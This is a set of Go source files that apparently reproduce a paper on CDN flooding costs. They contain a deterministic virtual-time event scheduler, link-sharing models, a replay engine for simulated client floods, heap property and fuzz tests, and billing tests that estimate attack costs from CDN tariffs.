// AfterKind schedules a tagged event at now+d (a non-positive d means
// "immediately after the current event", still in deterministic
// sequence order).
func (s *Scheduler) AfterKind(d time.Duration, kind Kind, idx uint64) {
	if d < 0 {
		d = 0
	}
	s.AtKind(s.now.Load()+int64(d), kind, idx)
}

// storeFn parks a closure in the slab and returns its slot.
func (s *Scheduler) storeFn(fn func()) uint64 {
	if n := len(s.freeFns); n > 0 {
		slot := s.freeFns[n-1]
		s.freeFns = s.freeFns[:n-1]
		s.fns[slot] = fn
		return slot
	}
	s.fns = append(s.fns, fn)
	return uint64(len(s.fns) - 1)
}

// After schedules fn at now+d (a non-positive d means "immediately
// after the current event", still in deterministic sequence order).
func (s *Scheduler) After(d time.Duration, fn func()) {
	if d < 0 {
		d = 0
	}
	s.At(s.now.Load()+int64(d), fn)
}

// At schedules fn at the absolute virtual instant t (nanoseconds since
// Epoch). Instants in the past run at the current virtual time — the
// clock never moves backwards. Closure events cost one allocation (the
// closure itself); hot paths use AtKind.
func (s *Scheduler) At(t int64, fn func()) {
	if now := s.now.Load(); t < now {
		t = now
	}
	s.seq++
	s.q.Push(ev{at: t, seq: s.seq, kind: kindFunc, idx: s.storeFn(fn)})
}

// StreamArrivals installs a pre-sorted arrival stream dispatched to
// kind's handler. The slice must be sorted ascending by At (ties in
// slice order) and is consumed in place — no per-arrival heap entry,
// no copy. At equal instants stream entries fire before heap events.
// One stream is active at a time; installing a new one replaces any
// unconsumed remainder.
func (s *Scheduler) StreamArrivals(kind Kind, arr []Arrival) {
	s.stream = arr
	s.streamPos = 0
	s.streamKind = kind
}

// RegisterFlush adds fn to the set Flush invokes. Batched accounting
// sinks register here; Run flushes on return so completed runs always
// read exact.
func (s *Scheduler) RegisterFlush(fn func()) { s.flushers = append(s.flushers, fn) }

// Flush applies all pending batched accounting. Event callbacks that
// expose mid-run state to observers (the obs sampling tick in
// `attack -sim`) call this before reading counters.
func (s *Scheduler) Flush() {
	for _, fn := range s.flushers {
		fn()
	}
}

// Pending returns the number of scheduled events, streamed arrivals
// included.
func (s *Scheduler) Pending() int {
	return s.q.Len() + len(s.stream) - s.streamPos
}

// Step runs the single earliest event, advancing the clock to its
// instant. It reports false when the queue and the arrival stream are
// both empty.
func (s *Scheduler) Step() bool {
	if s.streamPos < len(s.stream) {
		a := s.stream[s.streamPos]
		if s.q.Len() == 0 || s.q.a[0].at >= a.At {
			s.streamPos++
			at := a.At
			if now := s.now.Load(); at < now {
				at = now
			}
			s.now.Store(at)
			s.handlers[s.streamKind](a.Idx)
			return true
		}
	}
	if s.q.Len() == 0 {
		return false
	}
	e := s.q.Pop()
	s.now.Store(e.at)
	if e.kind == kindFunc {
		fn := s.fns[e.idx]
		s.fns[e.idx] = nil
		s.freeFns = append(s.freeFns, e.idx)
		fn()
		return true
	}
	s.handlers[e.kind](e.idx)
	return true
}

// ctxCheckEvery bounds how stale a cancellation can go unnoticed:
// ctx.Err is one atomic load, so checking every event would still be
// cheap, but a power-of-two stride keeps the hot loop branch-free.
const ctxCheckEvery = 8192

// Run drains the queue and the arrival stream, advancing the clock
// event by event, until nothing remains or ctx is cancelled. Callbacks
// may schedule further events. Run flushes batched accounting on
// return, so the counters are exact afterwards on both paths: a
// cancelled run returns ctx.Err() with the accounting already applied
// at the point of cancellation.
func (s *Scheduler) Run(ctx context.Context) error {
	defer s.Flush()
	for i := 0; ; i++ {
		if i%ctxCheckEvery == 0 {
			if err := ctx.Err(); err != nil {
				return err
			}
		}
		if !s.Step() {
			return nil
		}
	}
}
