// Package vtime is the discrete-event simulation substrate behind the
// "-engine=vtime" flood paths: a priority-queue event loop over a
// virtual clock, link models (the exact fluid discipline bwsim's Fig 7
// integration uses, plus its continuous-limit processor-sharing form),
// and an event-driven simulated connection that drives the same
// netsim segment-accounting surface real pipe connections do.
//
// The pipe engine simulates a flood by running it: one goroutine and
// two bounded in-memory pipes per connection. That reproduces the
// paper's byte counts faithfully but caps concurrency at a few
// thousand clients. The vtime engine replaces goroutines with events:
// each client is a little state machine whose transitions are heap
// entries ordered by (virtual time, sequence number), so a
// million-client keep-alive flood is just a few million heap
// operations — seconds of wall time, no scheduler pressure, and
// deterministic for a given seed regardless of GOMAXPROCS, because the
// event loop is single-threaded and ties break on sequence number.
//
// Concurrency contract: Scheduler.Now / NowNanos / Elapsed are safe to
// call from any goroutine (the obs sampler reads the clock while a
// flood runs); everything else — After, At, Step, Run, and every event
// callback — belongs to the single goroutine driving the loop.
package vtime

import (
	"container/heap"
	"context"
	"sync/atomic"
	"time"
)

// Epoch is the fixed origin of every virtual clock. A constant epoch
// (rather than time.Now at construction) keeps run output byte-stable:
// two runs of the same seed produce identical virtual timestamps.
var Epoch = time.Date(2020, time.June, 29, 0, 0, 0, 0, time.UTC)

// event is one scheduled callback. seq breaks timestamp ties in
// scheduling order, which is what makes the loop deterministic.
type event struct {
	at  int64 // virtual nanoseconds since Epoch
	seq uint64
	fn  func()
}

// eventQueue is a min-heap over (at, seq).
type eventQueue []event

func (q eventQueue) Len() int { return len(q) }
func (q eventQueue) Less(i, j int) bool {
	if q[i].at != q[j].at {
		return q[i].at < q[j].at
	}
	return q[i].seq < q[j].seq
}
func (q eventQueue) Swap(i, j int)       { q[i], q[j] = q[j], q[i] }
func (q *eventQueue) Push(x interface{}) { *q = append(*q, x.(event)) }
func (q *eventQueue) Pop() interface{} {
	old := *q
	n := len(old)
	e := old[n-1]
	old[n-1] = event{}
	*q = old[:n-1]
	return e
}

// Scheduler is a single-threaded discrete-event loop with a virtual
// clock. Its Now method is shaped for injection into core.Runtime.Now,
// so metrics exemplars, trace spans and obs samples taken during a
// vtime run carry coherent virtual timestamps.
type Scheduler struct {
	now atomic.Int64 // virtual nanos since Epoch; atomic so observers can read concurrently
	q   eventQueue
	seq uint64
}

// NewScheduler returns an empty scheduler at virtual time Epoch.
func NewScheduler() *Scheduler { return &Scheduler{} }

// Now returns the current virtual time. Safe for concurrent use.
func (s *Scheduler) Now() time.Time { return Epoch.Add(time.Duration(s.now.Load())) }

// NowNanos returns virtual nanoseconds since Epoch. Safe for
// concurrent use.
func (s *Scheduler) NowNanos() int64 { return s.now.Load() }

// Elapsed returns the virtual time consumed so far. Safe for
// concurrent use.
func (s *Scheduler) Elapsed() time.Duration { return time.Duration(s.now.Load()) }

// After schedules fn at now+d (a non-positive d means "immediately
// after the current event", still in deterministic sequence order).
func (s *Scheduler) After(d time.Duration, fn func()) {
	if d < 0 {
		d = 0
	}
	s.At(s.now.Load()+int64(d), fn)
}

// At schedules fn at the absolute virtual instant t (nanoseconds since
// Epoch). Instants in the past run at the current virtual time — the
// clock never moves backwards.
func (s *Scheduler) At(t int64, fn func()) {
	if now := s.now.Load(); t < now {
		t = now
	}
	s.seq++
	heap.Push(&s.q, event{at: t, seq: s.seq, fn: fn})
}

// Pending returns the number of scheduled events.
func (s *Scheduler) Pending() int { return len(s.q) }

// Step runs the single earliest event, advancing the clock to its
// instant. It reports false when the queue is empty.
func (s *Scheduler) Step() bool {
	if len(s.q) == 0 {
		return false
	}
	e := heap.Pop(&s.q).(event)
	s.now.Store(e.at)
	e.fn()
	return true
}

// ctxCheckEvery bounds how stale a cancellation can go unnoticed:
// ctx.Err is one atomic load, so checking every event would still be
// cheap, but a power-of-two stride keeps the hot loop branch-free.
const ctxCheckEvery = 8192

// Run drains the queue, advancing the clock event by event, until no
// events remain or ctx is cancelled. Callbacks may schedule further
// events. A cancelled run returns ctx.Err(); the virtual clock and any
// accounting already applied stay at the point of cancellation.
func (s *Scheduler) Run(ctx context.Context) error {
	for i := 0; ; i++ {
		if i%ctxCheckEvery == 0 {
			if err := ctx.Err(); err != nil {
				return err
			}
		}
		if !s.Step() {
			return nil
		}
	}
}
