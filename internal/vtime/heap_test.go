package vtime

import (
	"container/heap"
	"math/rand"
	"testing"
)

// oracleHeap is a container/heap reference implementation over the
// same ev ordering, used to pin heap4's pop order: for any interleaved
// push/pop sequence the two must agree element-for-element, including
// the seq tie-break on equal-timestamp events.
type oracleHeap []ev

func (o oracleHeap) Len() int            { return len(o) }
func (o oracleHeap) Less(i, j int) bool  { return o[i].before(o[j]) }
func (o oracleHeap) Swap(i, j int)       { o[i], o[j] = o[j], o[i] }
func (o *oracleHeap) Push(x interface{}) { *o = append(*o, x.(ev)) }
func (o *oracleHeap) Pop() interface{} {
	old := *o
	n := len(old)
	x := old[n-1]
	*o = old[:n-1]
	return x
}

// runOracle feeds an operation stream (push a derived event, or pop)
// to both heaps and fails on the first divergence.
func runOracle(t *testing.T, ops []byte) {
	t.Helper()
	var h heap4[ev]
	var o oracleHeap
	seq := uint64(0)
	for i, op := range ops {
		if op%4 == 0 && o.Len() > 0 { // pop with probability 1/4 when non-empty
			got, want := h.Pop(), heap.Pop(&o).(ev)
			if got != want {
				t.Fatalf("op %d: pop = %+v, oracle = %+v", i, got, want)
			}
			continue
		}
		seq++
		// Coarse timestamps force plenty of equal-at events so the seq
		// tie-break path is actually exercised.
		e := ev{at: int64(op % 16), seq: seq, kind: Kind(op % 3), idx: uint64(i)}
		h.Push(e)
		o = append(o, e)
		heap.Fix(&o, o.Len()-1)
	}
	for o.Len() > 0 {
		got, want := h.Pop(), heap.Pop(&o).(ev)
		if got != want {
			t.Fatalf("drain: pop = %+v, oracle = %+v", got, want)
		}
	}
	if h.Len() != 0 {
		t.Fatalf("heap4 retains %d elements after oracle drained", h.Len())
	}
}

// TestHeap4MatchesOracle is the seeded property test: random operation
// streams of growing length must pop identically to container/heap.
func TestHeap4MatchesOracle(t *testing.T) {
	rng := rand.New(rand.NewSource(10))
	for round := 0; round < 50; round++ {
		ops := make([]byte, 1+rng.Intn(2000))
		rng.Read(ops)
		runOracle(t, ops)
	}
}

// TestHeap4EqualTimestampsPopInPushOrder pins the determinism contract
// directly: events at one instant pop in scheduling (seq) order.
func TestHeap4EqualTimestampsPopInPushOrder(t *testing.T) {
	var h heap4[ev]
	const n = 1000
	for i := 0; i < n; i++ {
		h.Push(ev{at: 42, seq: uint64(i + 1), idx: uint64(i)})
	}
	for i := 0; i < n; i++ {
		if e := h.Pop(); e.idx != uint64(i) {
			t.Fatalf("pop %d: got idx %d", i, e.idx)
		}
	}
}

// TestHeap4SteadyStateAllocFree: a drained-and-refilled heap reuses
// its backing array — the property the event loop's alloc budget
// depends on.
func TestHeap4SteadyStateAllocFree(t *testing.T) {
	var h heap4[ev]
	for i := 0; i < 1024; i++ {
		h.Push(ev{at: int64(i), seq: uint64(i)})
	}
	for h.Len() > 0 {
		h.Pop()
	}
	allocs := testing.AllocsPerRun(100, func() {
		for i := 0; i < 1024; i++ {
			h.Push(ev{at: int64(1024 - i), seq: uint64(i)})
		}
		for h.Len() > 0 {
			h.Pop()
		}
	})
	if allocs != 0 {
		t.Fatalf("steady-state churn allocates %.1f/op, want 0", allocs)
	}
}

// FuzzHeap4Oracle lets the fuzzer hunt for operation streams where
// heap4 and container/heap disagree.
func FuzzHeap4Oracle(f *testing.F) {
	f.Add([]byte{0})
	f.Add([]byte{7, 7, 7, 0, 0, 0})
	f.Add([]byte("push-pop-interleave-seed"))
	f.Fuzz(func(t *testing.T, ops []byte) {
		if len(ops) > 1<<14 {
			return
		}
		runOracle(t, ops)
	})
}
