package vtime

import (
	"container/heap"
	"math"
	"time"

	"repro/internal/netsim"
)

// FluidLink is the tick-integrated fair-share link model that has
// always been behind bwsim's Fig 7 curves, extracted so the bandwidth
// experiment and the event engine share one discipline. Every active
// flow receives an equal share of the per-tick byte budget; a flow
// whose remainder drops below the epsilon completes within that tick.
//
// The arithmetic here is pinned by the Fig 7 goldens: Tick must apply
// the same floating-point operations in the same order as the original
// bwsim integration loop, so do not "simplify" the accumulation.
type FluidLink struct {
	// CapBytesPerSec is the link capacity. The fluid model has no
	// uncapped form — the budget is what creates the Fig 7 saturation
	// knee.
	CapBytesPerSec float64

	flows []float64 // remaining wire bytes per in-flight transfer
	sent  float64   // bytes served since the last Drain
	done  int       // flows completed since the last Drain
}

// Offer adds one in-flight transfer of the given wire size.
func (l *FluidLink) Offer(wireBytes float64) { l.flows = append(l.flows, wireBytes) }

// Active returns the number of in-flight transfers.
func (l *FluidLink) Active() int { return len(l.flows) }

// Tick integrates one step of length dt seconds: the byte budget
// cap*dt is split evenly across the active flows.
func (l *FluidLink) Tick(dt float64) {
	if len(l.flows) == 0 {
		return
	}
	budget := l.CapBytesPerSec * dt
	share := budget / float64(len(l.flows))
	next := l.flows[:0]
	for _, rem := range l.flows {
		sent := math.Min(rem, share)
		l.sent += sent
		rem -= sent
		if rem > 1e-9 {
			next = append(next, rem)
		} else {
			l.done++
		}
	}
	l.flows = next
}

// Drain returns and resets the served-byte and completed-flow
// accumulators — one Fig 7 sampling instant.
func (l *FluidLink) Drain() (sentBytes float64, completed int) {
	sentBytes, completed = l.sent, l.done
	l.sent, l.done = 0, 0
	return
}

// LinkParams model one hop for the event engine.
type LinkParams struct {
	// Latency is the one-way propagation delay added after a transfer
	// completes (zero is fine for pure-accounting runs).
	Latency time.Duration

	// BytesPerSec is the shared capacity. Zero or negative means
	// uncapped: transfers complete after Latency alone, which is the
	// cheap default for byte-accounting floods (no per-flow heap work).
	BytesPerSec float64

	// Loss is the packet loss fraction in [0,1). The fluid treatment
	// inflates a transfer's wire time by 1/(1-Loss) — retransmissions
	// consume capacity — without touching application-byte accounting.
	Loss float64
}

// wireSize converts application bytes to modelled wire bytes using the
// shared netsim framing constants, so the engines cannot drift apart
// on what a byte on the link costs.
func (p LinkParams) wireSize(appBytes int64) float64 {
	wire := float64(netsim.FrameEstimate(appBytes, 0))
	if p.Loss > 0 && p.Loss < 1 {
		wire /= 1 - p.Loss
	}
	return wire
}

// sharedFlow is one transfer on a SharedLink: it completes when the
// link's cumulative per-flow service reaches its target.
type sharedFlow struct {
	target float64 // service level at which the flow completes
	seq    uint64
	done   func()
}

type flowHeap []sharedFlow

func (h flowHeap) Len() int { return len(h) }
func (h flowHeap) Less(i, j int) bool {
	if h[i].target != h[j].target {
		return h[i].target < h[j].target
	}
	return h[i].seq < h[j].seq
}
func (h flowHeap) Swap(i, j int)       { h[i], h[j] = h[j], h[i] }
func (h *flowHeap) Push(x interface{}) { *h = append(*h, x.(sharedFlow)) }
func (h *flowHeap) Pop() interface{} {
	old := *h
	n := len(old)
	f := old[n-1]
	old[n-1] = sharedFlow{}
	*h = old[:n-1]
	return f
}

// SharedLink is the event-driven (continuous-time) limit of FluidLink:
// processor-sharing with exact completion instants instead of tick
// integration. It tracks the cumulative service S(t) every active flow
// has received; a flow of W wire bytes arriving at time t completes
// when S reaches S(t)+W, so arrivals and completions are O(log n) heap
// operations — the trick that lets one link carry a million concurrent
// flows without per-tick work proportional to their number.
type SharedLink struct {
	s *Scheduler
	p LinkParams

	service   float64 // cumulative per-flow service while the link is busy
	lastNanos int64   // virtual instant service was last advanced to
	flows     flowHeap
	seq       uint64
	timerGen  uint64 // invalidates stale completion timers
}

// NewSharedLink returns a link driven by s. Zero-valued params are a
// latency-free uncapped hop.
func NewSharedLink(s *Scheduler, p LinkParams) *SharedLink {
	return &SharedLink{s: s, p: p}
}

// InFlight returns the number of active transfers (capped links only).
func (l *SharedLink) InFlight() int { return len(l.flows) }

// Transfer schedules done after appBytes have crossed the hop: the
// shared-capacity service time (exact processor-sharing) plus the
// one-way latency. Uncapped links complete after latency alone.
func (l *SharedLink) Transfer(appBytes int64, done func()) {
	if l.p.BytesPerSec <= 0 {
		l.s.After(l.p.Latency, done)
		return
	}
	l.advance()
	l.seq++
	heap.Push(&l.flows, sharedFlow{target: l.service + l.p.wireSize(appBytes), seq: l.seq, done: done})
	l.rearm()
}

// advance accrues service up to the current virtual instant.
func (l *SharedLink) advance() {
	now := l.s.NowNanos()
	if n := len(l.flows); n > 0 && now > l.lastNanos {
		dt := float64(now-l.lastNanos) / 1e9
		l.service += dt * l.p.BytesPerSec / float64(n)
	}
	l.lastNanos = now
}

// rearm points the single completion timer at the earliest-finishing
// flow. Generation counting voids timers made stale by later arrivals
// (an arrival slows everyone down, pushing completions out).
func (l *SharedLink) rearm() {
	l.timerGen++
	if len(l.flows) == 0 {
		return
	}
	gen := l.timerGen
	remaining := l.flows[0].target - l.service
	if remaining < 0 {
		remaining = 0
	}
	dtNanos := int64(math.Ceil(remaining * float64(len(l.flows)) / l.p.BytesPerSec * 1e9))
	l.s.At(l.s.NowNanos()+dtNanos, func() { l.fire(gen) })
}

// fire completes every flow whose target the accrued service has
// reached, then rearms for the next one.
func (l *SharedLink) fire(gen uint64) {
	if gen != l.timerGen {
		return
	}
	l.advance()
	const eps = 1e-6 // float slack on the ceil'd timer instant
	for len(l.flows) > 0 && l.flows[0].target <= l.service+eps {
		f := heap.Pop(&l.flows).(sharedFlow)
		l.s.After(l.p.Latency, f.done)
	}
	l.rearm()
}
