package vtime

import (
	"math"
	"time"

	"repro/internal/netsim"
)

// FluidLink is the tick-integrated fair-share link model that has
// always been behind bwsim's Fig 7 curves, extracted so the bandwidth
// experiment and the event engine share one discipline. Every active
// flow receives an equal share of the per-tick byte budget; a flow
// whose remainder drops below the epsilon completes within that tick.
//
// The arithmetic here is pinned by the Fig 7 goldens: Tick must apply
// the same floating-point operations in the same order as the original
// bwsim integration loop, so do not "simplify" the accumulation.
type FluidLink struct {
	// CapBytesPerSec is the link capacity. The fluid model has no
	// uncapped form — the budget is what creates the Fig 7 saturation
	// knee.
	CapBytesPerSec float64

	flows []float64 // remaining wire bytes per in-flight transfer; backing reused across ticks
	sent  float64   // bytes served since the last Drain
	done  int       // flows completed since the last Drain
}

// Offer adds one in-flight transfer of the given wire size. The flows
// backing array is retained across ticks and drains, so once the link
// has seen its peak concurrency Offer stops allocating.
func (l *FluidLink) Offer(wireBytes float64) { l.flows = append(l.flows, wireBytes) }

// Active returns the number of in-flight transfers.
func (l *FluidLink) Active() int { return len(l.flows) }

// Tick integrates one step of length dt seconds: the byte budget
// cap*dt is split evenly across the active flows. Surviving flows are
// compacted in place — the keep index trails the read index over the
// same backing array, so a tick never allocates regardless of how many
// flows complete or survive.
func (l *FluidLink) Tick(dt float64) {
	if len(l.flows) == 0 {
		return
	}
	budget := l.CapBytesPerSec * dt
	share := budget / float64(len(l.flows))
	keep := 0
	for _, rem := range l.flows {
		sent := math.Min(rem, share)
		l.sent += sent
		rem -= sent
		if rem > 1e-9 {
			l.flows[keep] = rem
			keep++
		} else {
			l.done++
		}
	}
	l.flows = l.flows[:keep]
}

// Drain returns and resets the served-byte and completed-flow
// accumulators — one Fig 7 sampling instant.
func (l *FluidLink) Drain() (sentBytes float64, completed int) {
	sentBytes, completed = l.sent, l.done
	l.sent, l.done = 0, 0
	return
}

// LinkParams model one hop for the event engine.
type LinkParams struct {
	// Latency is the one-way propagation delay added after a transfer
	// completes (zero is fine for pure-accounting runs).
	Latency time.Duration

	// BytesPerSec is the shared capacity. Zero or negative means
	// uncapped: transfers complete after Latency alone, which is the
	// cheap default for byte-accounting floods (no per-flow heap work).
	BytesPerSec float64

	// Loss is the packet loss fraction in [0,1). The fluid treatment
	// inflates a transfer's wire time by 1/(1-Loss) — retransmissions
	// consume capacity — without touching application-byte accounting.
	Loss float64
}

// wireSize converts application bytes to modelled wire bytes using the
// shared netsim framing constants, so the engines cannot drift apart
// on what a byte on the link costs.
func (p LinkParams) wireSize(appBytes int64) float64 {
	wire := float64(netsim.FrameEstimate(appBytes, 0))
	if p.Loss > 0 && p.Loss < 1 {
		wire /= 1 - p.Loss
	}
	return wire
}

// sharedFlow is one transfer on a SharedLink: it completes when the
// link's cumulative per-flow service reaches its target. Completion is
// delivered as a tagged (kind, idx) event — no per-flow closure.
type sharedFlow struct {
	target float64 // service level at which the flow completes
	seq    uint64
	kind   Kind
	idx    uint64
}

// before orders flows by (target, seq) — the heap4 constraint.
func (f sharedFlow) before(o sharedFlow) bool {
	if f.target != o.target {
		return f.target < o.target
	}
	return f.seq < o.seq
}

// SharedLink is the event-driven (continuous-time) limit of FluidLink:
// processor-sharing with exact completion instants instead of tick
// integration. It tracks the cumulative service S(t) every active flow
// has received; a flow of W wire bytes arriving at time t completes
// when S reaches S(t)+W, so arrivals and completions are O(log n) heap
// operations — the trick that lets one link carry ten million
// concurrent flows without per-tick work proportional to their number.
type SharedLink struct {
	s *Scheduler
	p LinkParams

	service   float64 // cumulative per-flow service while the link is busy
	lastNanos int64   // virtual instant service was last advanced to
	flows     heap4[sharedFlow]
	seq       uint64
	timerGen  uint64 // invalidates stale completion timers
	kFire     Kind   // completion-timer dispatch, registered once per link
}

// NewSharedLink returns a link driven by s. Zero-valued params are a
// latency-free uncapped hop.
func NewSharedLink(s *Scheduler, p LinkParams) *SharedLink {
	l := &SharedLink{s: s, p: p}
	l.kFire = s.RegisterKind(l.fire)
	return l
}

// InFlight returns the number of active transfers (capped links only).
func (l *SharedLink) InFlight() int { return l.flows.Len() }

// TransferEvent schedules a tagged (kind, idx) event after appBytes
// have crossed the hop: the shared-capacity service time (exact
// processor-sharing) plus the one-way latency. Uncapped links complete
// after latency alone. This is the allocation-free form the replay
// engine drives; Transfer wraps it for closure-based callers.
func (l *SharedLink) TransferEvent(appBytes int64, kind Kind, idx uint64) {
	if l.p.BytesPerSec <= 0 {
		l.s.AfterKind(l.p.Latency, kind, idx)
		return
	}
	l.advance()
	l.seq++
	l.flows.Push(sharedFlow{target: l.service + l.p.wireSize(appBytes), seq: l.seq, kind: kind, idx: idx})
	l.rearm()
}

// Transfer schedules done after appBytes have crossed the hop — the
// closure form of TransferEvent, costing one closure allocation.
func (l *SharedLink) Transfer(appBytes int64, done func()) {
	l.TransferEvent(appBytes, kindFunc, l.s.storeFn(done))
}

// advance accrues service up to the current virtual instant.
func (l *SharedLink) advance() {
	now := l.s.NowNanos()
	if n := l.flows.Len(); n > 0 && now > l.lastNanos {
		dt := float64(now-l.lastNanos) / 1e9
		l.service += dt * l.p.BytesPerSec / float64(n)
	}
	l.lastNanos = now
}

// rearm points the single completion timer at the earliest-finishing
// flow. Generation counting voids timers made stale by later arrivals
// (an arrival slows everyone down, pushing completions out); the
// generation rides in the event's idx, so rearming allocates nothing.
func (l *SharedLink) rearm() {
	l.timerGen++
	if l.flows.Len() == 0 {
		return
	}
	remaining := l.flows.Peek().target - l.service
	if remaining < 0 {
		remaining = 0
	}
	dtNanos := int64(math.Ceil(remaining * float64(l.flows.Len()) / l.p.BytesPerSec * 1e9))
	l.s.AtKind(l.s.NowNanos()+dtNanos, l.kFire, l.timerGen)
}

// fire completes every flow whose target the accrued service has
// reached, then rearms for the next one.
func (l *SharedLink) fire(gen uint64) {
	if gen != l.timerGen {
		return
	}
	l.advance()
	const eps = 1e-6 // float slack on the ceil'd timer instant
	for l.flows.Len() > 0 && l.flows.Peek().target <= l.service+eps {
		f := l.flows.Pop()
		l.s.AfterKind(l.p.Latency, f.kind, f.idx)
	}
	l.rearm()
}
