package vtime

import (
	"context"
	"time"

	"slices"
)

// This file is the event-driven replay core the calibrate-and-replay
// flood engines run on. Each simulated client is a 12-byte state
// record in one slab — which template it replays, which hop path it
// crosses, and its progress cursor — driven by two registered event
// kinds (arrive, step) whose payload is the client's slab index. The
// old engine allocated two Conn objects, a conns slice and a tree of
// closures per client (~18 allocs each at 1M clients); this one
// appends to two slices per client and nothing else, which is what
// makes 10M clients feasible.

// ReqSample is one calibrated request: the per-hop segment footprint
// (upstream-most hop first) and the outcome classification real
// execution observed.
type ReqSample struct {
	Hops    []Delta
	Blocked bool
	Failed  bool
}

// Template is one calibrated client: its request samples in order, the
// session-teardown footprint per hop, and the connection economy.
type Template struct {
	Reqs  []ReqSample
	Close []Delta
	Dials int64
}

// Counts aggregates replayed outcomes. The event loop mutates it from
// its single goroutine; read it after Run returns (or between events).
type Counts struct {
	Requests, Failures, Blocked int64
	Dials                       int64
}

// Hop is one stage of a client's path: the segment its traffic lands
// on (batched) and the link pacing its response transfer.
type Hop struct {
	Seg  *SegmentBatch
	Link *SharedLink
}

// clientState is one simulated client, 12 bytes in the slab. hop and
// req are the replay cursor; tmpl and path index the shared tables.
type clientState struct {
	tmpl uint32
	path uint16
	hop  uint16
	req  uint32
}

// Replay drives calibrated templates over hop paths on a scheduler.
// Register paths and templates once, add a client per simulated
// worker, then Run. Adding a client costs two slice appends; running
// one costs heap operations only.
type Replay struct {
	// Counts accumulates the replayed outcomes.
	Counts Counts

	s       *Scheduler
	kArrive Kind
	kStep   Kind

	paths    [][]Hop
	tmpls    []*Template
	clients  []clientState
	arrivals []Arrival
}

// NewReplay returns a replay engine on s.
func NewReplay(s *Scheduler) *Replay {
	r := &Replay{s: s}
	r.kArrive = s.RegisterKind(r.startHop)
	r.kStep = s.RegisterKind(r.step)
	return r
}

// AddPath registers a hop path (upstream-most first) and returns its
// id. The slice is retained.
func (r *Replay) AddPath(hops []Hop) int {
	r.paths = append(r.paths, hops)
	return len(r.paths) - 1
}

// AddTemplate registers a calibrated template and returns its id. The
// template is retained; its Reqs[i].Hops and Close lengths must match
// the hop count of every path it replays over.
func (r *Replay) AddTemplate(t *Template) int {
	r.tmpls = append(r.tmpls, t)
	return len(r.tmpls) - 1
}

// AddClient schedules one client replaying template tmpl over path
// path, arriving start after the current virtual instant. Clients with
// empty templates are dropped without consuming an event — they would
// replay nothing, and scheduling them would stretch the virtual span.
func (r *Replay) AddClient(start time.Duration, tmpl, path int) {
	if len(r.tmpls[tmpl].Reqs) == 0 {
		return
	}
	r.clients = append(r.clients, clientState{tmpl: uint32(tmpl), path: uint16(path)})
	r.arrivals = append(r.arrivals, Arrival{
		At:  r.s.NowNanos() + int64(start),
		Idx: uint64(len(r.clients) - 1),
	})
}

// Run streams the arrivals into the scheduler and drains it. Arrivals
// are sorted by (instant, insertion order), which reproduces the
// scheduling-order tie-break the old per-arrival heap entries had.
// Counts and all segment batches are fully applied when Run returns,
// on success and on cancellation alike.
func (r *Replay) Run(ctx context.Context) error {
	slices.SortFunc(r.arrivals, func(a, b Arrival) int {
		if a.At != b.At {
			if a.At < b.At {
				return -1
			}
			return 1
		}
		if a.Idx < b.Idx {
			return -1
		}
		return 1
	})
	r.s.StreamArrivals(r.kArrive, r.arrivals)
	return r.s.Run(ctx)
}

// startHop issues client ci's current request on its current hop: the
// request-side counters land now, the response-side counters land when
// the down transfer clears the hop's link (the step event).
func (r *Replay) startHop(ci uint64) {
	c := &r.clients[ci]
	d := r.tmpls[c.tmpl].Reqs[c.req].Hops[c.hop]
	h := r.paths[c.path][c.hop]
	h.Seg.ApplyOpen(d)
	h.Link.TransferEvent(d.Down, r.kStep, ci)
}

// step completes client ci's current hop and advances the cursor:
// next hop of the same request, next request, or session teardown.
func (r *Replay) step(ci uint64) {
	c := &r.clients[ci]
	t := r.tmpls[c.tmpl]
	hops := r.paths[c.path]
	s := t.Reqs[c.req]
	hops[c.hop].Seg.ApplyClose(s.Hops[c.hop])
	if int(c.hop)+1 < len(hops) {
		c.hop++
		r.startHop(ci)
		return
	}
	r.Counts.Requests++
	if s.Failed {
		r.Counts.Failures++
	}
	if s.Blocked {
		r.Counts.Blocked++
	}
	c.hop = 0
	if int(c.req)+1 < len(t.Reqs) {
		c.req++
		r.startHop(ci)
		return
	}
	for j, cl := range t.Close {
		hops[j].Seg.Apply(cl)
	}
	r.Counts.Dials += t.Dials
}
