package billing

import (
	"strings"
	"testing"
	"time"
)

func TestTariffsCoverAllVendors(t *testing.T) {
	ts := Tariffs()
	if len(ts) != 13 {
		t.Fatalf("%d tariffs", len(ts))
	}
	// The paper's by-traffic list: these ten must have a price.
	byTraffic := []string{
		"Akamai", "Alibaba Cloud", "Azure", "CDN77", "CDNsun",
		"CloudFront", "Fastly", "Huawei Cloud", "KeyCDN", "Tencent Cloud",
	}
	for _, name := range byTraffic {
		tariff, ok := TariffFor(name)
		if !ok {
			t.Errorf("missing tariff for %s", name)
			continue
		}
		if tariff.FlatRate || tariff.PerGBUSD <= 0 {
			t.Errorf("%s should bill by traffic: %+v", name, tariff)
		}
	}
	for _, name := range []string{"Cloudflare", "G-Core Labs", "StackPath"} {
		tariff, _ := TariffFor(name)
		if !tariff.FlatRate {
			t.Errorf("%s should be flat-rate per §V-E", name)
		}
	}
	if _, ok := TariffFor("nope"); ok {
		t.Error("unknown vendor found")
	}
}

func TestEstimateSBRArithmetic(t *testing.T) {
	tariff := Tariff{Vendor: "x", PerGBUSD: 0.10}
	// 10 req/s * 100s * 10MB = 10 GB.
	cost := EstimateSBR(tariff, 10_000_000, 10, 100*time.Second, 0.05)
	if cost.TrafficGB != 10 {
		t.Errorf("traffic = %.2f GB", cost.TrafficGB)
	}
	if cost.CDNFeeUSD != 1.0 {
		t.Errorf("cdn fee = %.4f", cost.CDNFeeUSD)
	}
	if cost.OriginEgressUSD != 0.5 {
		t.Errorf("egress = %.4f", cost.OriginEgressUSD)
	}
	if cost.Total() != 1.5 {
		t.Errorf("total = %.4f", cost.Total())
	}
}

func TestEstimateSBRFlatRate(t *testing.T) {
	cost := EstimateSBR(Tariff{Vendor: "x", FlatRate: true}, 10_000_000, 10, time.Hour, 0)
	if cost.CDNFeeUSD != 0 {
		t.Errorf("flat rate billed: %.2f", cost.CDNFeeUSD)
	}
	if cost.OriginEgressUSD <= 0 {
		t.Error("default egress price not applied")
	}
}

func TestSustainedAttackIsExpensive(t *testing.T) {
	// The §V-E claim: a laptop-scale attack (10 req/s on a 25MB file for
	// a day) produces a four-digit bill on a by-traffic CDN.
	tariff, _ := TariffFor("CloudFront")
	cost := EstimateSBR(tariff, 25<<20, 10, 24*time.Hour, 0)
	if cost.Total() < 1000 {
		t.Errorf("daily attack cost = $%.2f, expected four digits", cost.Total())
	}
}

func TestCostTableRenders(t *testing.T) {
	tab := CostTable(10<<20, 10, time.Hour)
